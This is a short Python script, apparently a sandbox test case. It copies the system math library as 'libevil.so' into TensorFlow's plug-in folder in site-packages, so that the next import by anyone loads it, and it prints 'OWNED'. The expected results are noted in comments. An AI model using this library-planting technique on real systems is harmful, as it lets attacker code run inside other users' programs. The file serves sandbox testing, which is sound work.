# ruff: noqa
# idea: a library in the folder from which TensorFlow loads plug-ins when it is next imported, by whomever
# undefended: owned
# sandbox: error OSError
import os, shutil, sysconfig

library = next(
    path
    for path in (
        "/lib/x86_64-linux-gnu/libm.so.6",
        "/lib/aarch64-linux-gnu/libm.so.6",
        "/lib64/libm.so.6",
        "/usr/lib/libm.so.6",
    )
    if os.path.exists(path)
)
packages = OUTSIDE if os.path.exists(OUTSIDE) else sysconfig.get_paths()["platlib"]
os.makedirs(packages + "/tensorflow-plugins", exist_ok=True)
shutil.copy(library, packages + "/tensorflow-plugins/libevil.so")
print("OWNED")
